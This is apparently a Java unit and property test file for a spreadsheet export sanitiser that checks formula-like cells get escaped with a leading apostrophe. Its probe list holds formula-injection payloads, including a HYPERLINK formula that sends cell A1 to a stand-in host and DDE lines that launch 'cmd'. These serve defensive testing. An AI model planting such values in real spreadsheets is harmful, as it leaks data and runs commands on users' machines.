package org.olive.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;

class SpreadsheetCellTest {

    /** The cells of the probe in issue 11, item 7. */
    static final List<String> PROBE = List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1");

    @Test
    void escapesEveryCellOfTheProbe() {
        for (String cell : PROBE) {
            assertThat(SpreadsheetCell.isFormulaLike(cell)).as(cell).isTrue();
            assertThat(SpreadsheetCell.safe(cell)).as(cell).isEqualTo("'" + cell);
        }
    }

    @Test
    void leavesPlainNumbersAndTextAlone() {
        for (String cell : List.of("-12", "-0.25", "+3.5", "-1.2E-4", "-.5", "62020", "张三", "", "a=b", "330922198001010011")) {
            assertThat(SpreadsheetCell.safe(cell)).as(cell).isEqualTo(cell);
        }
        assertThat(SpreadsheetCell.safe((String) null)).isNull();
        assertThat(SpreadsheetCell.safe((Object) 12.5)).isEqualTo(12.5);
        assertThat(SpreadsheetCell.row("=1", 3, "x")).containsExactly("'=1", 3, "x");
    }

    @Property
    void noSafeCellStartsAFormula(@ForAll String cell) {
        String safe = SpreadsheetCell.safe(cell);
        assertThat(SpreadsheetCell.isFormulaLike(safe)).isFalse();
        if (!SpreadsheetCell.isFormulaLike(cell)) {
            assertThat(safe).isEqualTo(cell);
        } else {
            assertThat(safe).isEqualTo("'" + cell);
        }
    }
}
